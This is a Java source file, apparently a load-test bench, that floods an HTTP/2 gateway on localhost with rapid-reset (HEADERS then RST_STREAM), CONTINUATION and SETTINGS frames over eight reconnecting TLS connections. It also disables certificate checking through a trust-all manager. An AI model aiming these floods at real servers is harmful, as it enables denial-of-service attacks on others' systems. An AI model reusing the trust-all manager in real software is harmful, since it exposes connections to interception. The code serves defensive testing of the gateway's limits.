import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.security.cert.X509Certificate;
import java.util.concurrent.atomic.LongAdder;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;

/**
 * Attackers over HTTP/2: eight connections that each send one kind of frame as fast as they are
 * taken, and come back 100 ms after they were closed.
 */
class Floods {
  private static final int CONNECTIONS = 8;
  private static final long PAUSE_MILLIS = 100;
  private static final int FRAMES_AT_ONCE = 50;
  private static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
  private static final int HEADERS = 1;
  private static final int RESET = 3;
  private static final int SETTINGS = 4;
  private static final int CONTINUATION = 9;
  private static final int END_STREAM_AND_HEADERS = 0x5;
  private static final byte[] CANCEL = {0, 0, 0, 8};

  private final LongAdder connections = new LongAdder();
  private final LongAdder frames = new LongAdder();
  private final String kind;
  private final int port;
  private final long end;
  private final byte[] head;

  private Floods(String kind, int port, long end) {
    this.kind = kind;
    this.port = port;
    this.end = end;
    // Without a token: the limits of whoever has one are raised for the bench.
    this.head =
        block(
            ":method",
            "GET",
            ":scheme",
            "https",
            ":path",
            "/api/orders",
            ":authority",
            "localhost");
  }

  /** Kind (reset, continuation, small-continuation or settings), port, seconds. */
  public static void main(String[] arguments) throws Exception {
    var end = System.nanoTime() + Integer.parseInt(arguments[2]) * 1_000_000_000L;
    var floods = new Floods(arguments[0], Integer.parseInt(arguments[1]), end);
    var attackers = new Thread[CONNECTIONS];
    for (var i = 0; i < CONNECTIONS; i++) {
      attackers[i] = Thread.ofPlatform().start(floods::attack);
    }
    for (var attacker : attackers) {
      attacker.join();
    }
    System.out.printf(
        "%s: %d frames on %d connections%n",
        floods.kind, floods.frames.sum(), floods.connections.sum());
  }

  private void attack() {
    try {
      var context = SSLContext.getInstance("TLS");
      context.init(null, new TrustManager[] {new Anybody()}, null);
      while (System.nanoTime() < end) {
        connections.increment();
        flood(context);
        Thread.sleep(PAUSE_MILLIS);
      }
    } catch (Exception failed) {
      throw new IllegalStateException(failed);
    }
  }

  private void flood(SSLContext context) {
    try (var socket = (SSLSocket) context.getSocketFactory().createSocket()) {
      socket.connect(new InetSocketAddress(InetAddress.getLoopbackAddress(), port), 5000);
      var parameters = socket.getSSLParameters();
      parameters.setApplicationProtocols(new String[] {"h2"});
      socket.setSSLParameters(parameters);
      var out = socket.getOutputStream();
      var bytes = new ByteArrayOutputStream();
      bytes.writeBytes(PREFACE.getBytes(StandardCharsets.US_ASCII));
      frame(bytes, SETTINGS, 0, 0);
      for (var stream = 1; System.nanoTime() < end; ) {
        for (var i = 0; i < FRAMES_AT_ONCE; i++, stream += 2) {
          next(bytes, stream);
        }
        out.write(bytes.toByteArray());
        frames.add(FRAMES_AT_ONCE);
        bytes.reset();
      }
    } catch (IOException closed) {
      // What the gateway is there for.
    }
  }

  private void next(ByteArrayOutputStream bytes, int stream) {
    if (kind.equals("reset")) {
      frame(bytes, HEADERS, END_STREAM_AND_HEADERS, stream, head);
      frame(bytes, RESET, 0, stream, CANCEL);
    } else if (kind.equals("settings")) {
      frame(bytes, SETTINGS, 0, 0);
    } else if (stream == 1) {
      frame(bytes, HEADERS, 0, 1, block(":method", "GET"));
    } else {
      frame(
          bytes,
          CONTINUATION,
          0,
          1,
          block("a", kind.startsWith("small") ? "b" : "b".repeat(16_000)));
    }
  }

  private static void frame(
      ByteArrayOutputStream to, int type, int flags, int stream, byte... payload) {
    to.writeBytes(
        ByteBuffer.allocate(9)
            .putInt(payload.length << 8 | type)
            .put((byte) flags)
            .putInt(stream)
            .array());
    to.writeBytes(payload);
  }

  /** Literals without indexing (RFC 7541 section 6.2.2), each octet as it is. */
  private static byte[] block(String... lines) {
    var block = new ByteArrayOutputStream();
    for (var i = 0; i < lines.length; i += 2) {
      block.write(0);
      string(block, lines[i]);
      string(block, lines[i + 1]);
    }
    return block.toByteArray();
  }

  private static void string(ByteArrayOutputStream block, String text) {
    var octets = text.getBytes(StandardCharsets.US_ASCII);
    block.write(Math.min(octets.length, 127));
    if (octets.length >= 127) {
      var rest = octets.length - 127;
      for (; rest >= 128; rest >>>= 7) {
        block.write(rest & 127 | 128);
      }
      block.write(rest);
    }
    block.writeBytes(octets);
  }

  /** The bench's certificate is its own. */
  private static final class Anybody implements X509TrustManager {
    @Override
    public void checkClientTrusted(X509Certificate[] chain, String type) {}

    @Override
    public void checkServerTrusted(X509Certificate[] chain, String type) {}

    @Override
    public X509Certificate[] getAcceptedIssuers() {
      return new X509Certificate[0];
    }
  }
}
